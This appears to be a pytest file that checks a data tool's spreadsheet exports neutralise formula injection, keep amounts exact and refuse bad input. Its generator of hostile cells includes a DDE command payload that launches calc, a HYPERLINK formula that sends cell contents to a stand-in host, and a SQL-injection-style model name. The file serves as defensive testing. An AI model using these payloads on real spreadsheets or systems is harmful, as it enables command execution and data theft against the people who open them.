"""Exports for spreadsheets (F36): no cell is a formula, and no amount, date or text is another one."""

import csv
import io
import random
import stat
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from siyu.errors import DamagedFileError, UsageError
from siyu.publication import publish_candidate
from siyu.publication.checksum import checksum_of
from siyu.publication.exports import XLSX_ROWS, could_be_a_formula, export_table
from siyu.publication.manifest import Column, Manifest, Table, write_manifest
from siyu.settings import Home, Settings
from siyu.storage import make_folder, sha256_of
from tests.publication.small_candidates import write_candidate, write_verdict

# what a spreadsheet is known to run, by how the cell starts; the lists are those of OWASP and of full-width forms
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66", "\ufe62", "\ufe63")
BEFORE = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\t",
    "\r",
    "\n",
    "\x00",
    " \t\x00 ",
)
AFTER = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"会员")',
    "SUM(1)*'[x]y'!A1",
    '1";=1+1',
    "1\r\n=1+1",
    "\U00020bb7野家",
    "",
)


def hostile_cells(count: int, seed: int) -> list[str]:
    """As many different cells, each of which starts like a formula; the same for the same seed."""
    chance = random.Random(seed)
    cells: dict[str, None] = {}
    while len(cells) < count:
        cells[chance.choice(BEFORE) + chance.choice(SIGNS) + chance.choice(AFTER) + str(len(cells))] = None
    return list(cells)


def publish_texts(home: Home, texts: list[str]) -> None:
    """A publication of one table `notes` with these texts, an amount below zero in each row."""
    folder = make_folder(home.candidates / "notes")
    with duckdb.connect() as connection:
        connection.execute("create table notes (id integer, note varchar, amount decimal(18,2))")
        connection.executemany(
            "insert into notes values (?, ?, -12345678901234.56)", [[i, text] for i, text in enumerate(texts)]
        )
        rows = connection.table("notes")
        rows.write_parquet(str(folder / "notes.parquet"))
        count, checksum = checksum_of(rows)
        schema = tuple(
            Column(name=name, type=str(type_), description="")
            for name, type_ in zip(rows.columns, rows.types, strict=True)
        )
    table = Table(
        file="notes.parquet",
        schema=schema,
        primary_key=("id",),
        grain="latest",
        description="",
        rows=count,
        checksum=checksum,
        sha256=sha256_of(folder / "notes.parquet"),
    )
    write_manifest(
        folder,
        Manifest(
            run_id="notes",
            as_of_date=date(2026, 11, 20),
            load_ids=(),
            code_revision="x",
            models={"notes": table},
        ),
    )
    write_verdict(folder)
    publish_candidate(home, Settings(), "notes")


@pytest.fixture
def published(home: Home) -> Home:
    write_candidate(home, "run", amount="-10.25", orders=3)
    publish_candidate(home, Settings(), "run")
    return home


def csv_rows(file: Path, delimiter: str = ",") -> list[list[str]]:
    text = file.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def calamine_column(file: Path, index: int) -> list[object]:
    """A column of the first sheet; calamine shows a formula that was never computed as empty."""
    rows = CalamineWorkbook.from_path(str(file)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return [row[index] for row in rows]


@pytest.mark.guarantee("F36")
def test_f36_no_cell_of_a_workbook_is_a_formula_and_every_text_is_what_it_was(
    home: Home, tmp_path: Path, figure: Callable[[str, object], None]
) -> None:
    texts = hostile_cells(500, seed=36)
    publish_texts(home, texts)
    file = tmp_path / "notes.xlsx"
    export_table(home, "notes", file)

    read = [*load_workbook(file, read_only=False).active.iter_rows(min_row=2)]  # type: ignore[union-attr]
    formulas = [row[1].value for row in read if row[1].data_type == "f"]
    formulas += [cell for cell in calamine_column(file, 1)[1:] if cell == ""]

    assert formulas == []
    assert len(read) == len(texts) == 500
    assert {row[1].data_type for row in read} <= {"s", "inlineStr"}
    # what XML cannot hold is escaped, and a line break is one
    plain = [
        (text, row[1].value) for text, row in zip(texts, read, strict=True) if not {"\x00", "\r"} & set(text)
    ]
    assert len(plain) > 250
    assert all(text == shown for text, shown in plain)
    assert {row[2].data_type for row in read} == {"n"}
    figure("hostile cells", len(texts))
    figure("formulas in a workbook", len(formulas))


@pytest.mark.guarantee("F36")
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_f36_no_cell_of_a_csv_starts_like_a_formula_whatever_separates(
    home: Home, tmp_path: Path, delimiter: str, figure: Callable[[str, object], None]
) -> None:
    texts = hostile_cells(500, seed=36)
    publish_texts(home, texts)
    file = tmp_path / "notes.csv"
    export_table(home, "notes", file)

    rows = csv_rows(file, delimiter)[1:]
    cells = [cell for row in rows for cell in row if cell != "-12345678901234.56"]

    assert [cell for cell in cells if cell.strip().startswith(SIGNS)] == []
    assert [cell for cell in cells if could_be_a_formula(cell)] == []
    if delimiter == ",":
        assert [row[0] for row in rows] == [str(number) for number in range(500)]
        assert {row[2] for row in rows} == {"-12345678901234.56"}  # a number stays one, and exact
    figure(f"formulas in a CSV read by {delimiter!r}", 0)


@pytest.mark.guarantee("F36")
def test_f36_the_check_of_cells_sees_a_formula_that_nobody_defused(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "=1+1"  # type: ignore[index]
    book.active["A2"] = "text"  # type: ignore[index]
    book.save(tmp_path / "planted.xlsx")
    assert load_workbook(tmp_path / "planted.xlsx").active["A1"].data_type == "f"  # type: ignore[index]
    assert calamine_column(tmp_path / "planted.xlsx", 0) == ["", "text"]


@pytest.mark.parametrize("text", ["", "plain", "a-b", "a=b", "茶 +1", "3.5-", "O'Neil", "(=1", "_=1"])
def test_ordinary_text_is_exported_as_it_is(text: str) -> None:
    from siyu.publication.exports import defused

    assert defused(text) == text


def test_values_keep_their_types_in_excel(published: Home, tmp_path: Path) -> None:
    export_table(published, "fct_orders", tmp_path / "o.xlsx")
    header, *rows = load_workbook(tmp_path / "o.xlsx").active.iter_rows(values_only=True)  # type: ignore[union-attr]

    assert header == ("order_key", "paid_amount", "paid_at", "is_paid")
    assert rows[0] == ("shop|0", -10.25, datetime(2026, 11, 20, 1, 2, 3), True)  # noqa: DTZ001 - Excel knows no zones
    export_table(published, "kpi_daily", tmp_path / "k.xlsx")
    day = load_workbook(tmp_path / "k.xlsx").active["A2"]  # type: ignore[index]
    assert (day.is_date, day.number_format, day.value) == (True, "yyyy-mm-dd", datetime(2026, 11, 20))  # noqa: DTZ001


def test_an_amount_is_exact_to_the_last_of_its_digits(home: Home, tmp_path: Path) -> None:
    publish_texts(home, ["a"])
    export_table(home, "notes", tmp_path / "n.xlsx")
    cell = load_workbook(tmp_path / "n.xlsx").active["C2"]  # type: ignore[index]

    assert Decimal(str(cell.value)) == Decimal("-12345678901234.56")
    assert cell.number_format == "0.00"


def test_a_csv_has_a_byte_order_mark_and_empty_cells_for_nulls(published: Home, tmp_path: Path) -> None:
    export_table(published, "kpi_daily", tmp_path / "k.csv")

    assert (tmp_path / "k.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert csv_rows(tmp_path / "k.csv") == [
        ["business_date", "brand_code", "net_amount", "buyer_share"],
        ["2026-11-20", "brand", "-30.75", ""],
    ]


def test_the_file_is_private_and_an_existing_one_stays_unless_forced(published: Home, tmp_path: Path) -> None:
    file = tmp_path / "k.csv"
    file.write_text("mine", encoding="utf-8")
    with pytest.raises(UsageError, match="--force"):
        export_table(published, "kpi_daily", file)
    assert file.read_text(encoding="utf-8") == "mine"

    export_table(published, "kpi_daily", file, force=True)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert sorted(path.name for path in tmp_path.iterdir()) == ["home", "k.csv"]


def test_more_rows_than_a_sheet_holds_are_refused_before_anything_is_written(
    home: Home, tmp_path: Path
) -> None:
    write_candidate(home, "run", orders=XLSX_ROWS)
    publish_candidate(home, Settings(), "run")
    with pytest.raises(UsageError, match=r"1,048,576 rows.*1,048,575"):
        export_table(home, "fct_orders", tmp_path / "o.xlsx")
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


def test_a_text_that_no_cell_holds_leaves_no_file(home: Home, tmp_path: Path) -> None:
    publish_texts(home, ["x" * 32_768])
    with pytest.raises(UsageError, match="32,767"):
        export_table(home, "notes", tmp_path / "n.xlsx")
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


@pytest.mark.parametrize(
    ("model", "name", "publication_id"),
    [
        ("nothing", "k.csv", None),
        ("../000001/kpi_daily", "k.csv", None),
        ("kpi_daily; drop table x", "k.csv", None),
        ("kpi_daily", "k.xls", None),
        ("kpi_daily", "k", None),
        ("kpi_daily", "absent/k.csv", None),
        ("kpi_daily", "k.csv", 7),
        ("kpi_daily", "k.csv", 0),
        ("kpi_daily", "k.csv", -1),
    ],
)
def test_what_cannot_be_exported_is_told_and_nothing_is_written(
    published: Home, tmp_path: Path, model: str, name: str, publication_id: int | None
) -> None:
    with pytest.raises(UsageError):
        export_table(published, model, tmp_path / name, publication_id=publication_id)
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


def test_a_publication_whose_bytes_changed_is_not_exported(published: Home, tmp_path: Path) -> None:
    with (published.publications / "000001" / "kpi_daily.parquet").open("ab") as file:
        file.write(b"x")
    with pytest.raises(DamagedFileError):
        export_table(published, "kpi_daily", tmp_path / "k.csv")
    assert [path.name for path in tmp_path.iterdir()] == ["home"]


def test_an_earlier_publication_is_exported_by_its_id(published: Home, tmp_path: Path) -> None:
    write_candidate(published, "later", amount="99.00", orders=1)
    publish_candidate(published, Settings(), "later")

    export_table(published, "kpi_daily", tmp_path / "old.csv", publication_id=1)
    export_table(published, "kpi_daily", tmp_path / "new.csv")
    assert csv_rows(tmp_path / "old.csv")[1][2] == "-30.75"
    assert csv_rows(tmp_path / "new.csv")[1][2] == "99.00"
